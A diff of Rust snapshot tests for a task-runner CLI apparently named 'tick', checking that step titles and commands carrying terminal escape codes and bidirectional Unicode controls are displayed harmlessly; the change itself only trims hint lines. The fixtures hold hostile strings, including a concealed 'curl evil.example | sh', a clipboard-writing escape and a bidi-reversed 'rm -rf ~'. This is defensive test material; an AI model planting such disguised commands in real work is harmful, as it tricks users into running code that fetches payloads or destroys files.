@@ -87,7 +87,7 @@ fn a_committed_todo_title_is_shown_in_caret_notation_by_next_and_status() {
     S1 Tidy up^[]52;c;ZWNobyBwd25lZA==^G
       files:  out.txt
       verify: `true ^[[8m; curl evil.example | sh^[[28m ^[[2K^[[1A`
-    hint: run it with `tick run 20261130-143013-hostile --step S1`, or all that is left with `tick run 20261130-143013-hostile`
+    hint: run it with `tick run --step S1`, or all that is left with `tick run`
     ");
 }
 
@@ -120,7 +120,7 @@ Steps with bidirectional controls in them.
     S1 Check the <U+202E>txt.exe<U+202C> file
       files:  src/<U+2067>evil<U+2069>.rs
       verify: `cargo test <U+202E># ~ fr- mr<U+200F>`
-    hint: run it with `tick run 20261130-143013-bidi --step S1`, or all that is left with `tick run 20261130-143013-bidi`
+    hint: run it with `tick run --step S1`, or all that is left with `tick run`
     ");
 }
 
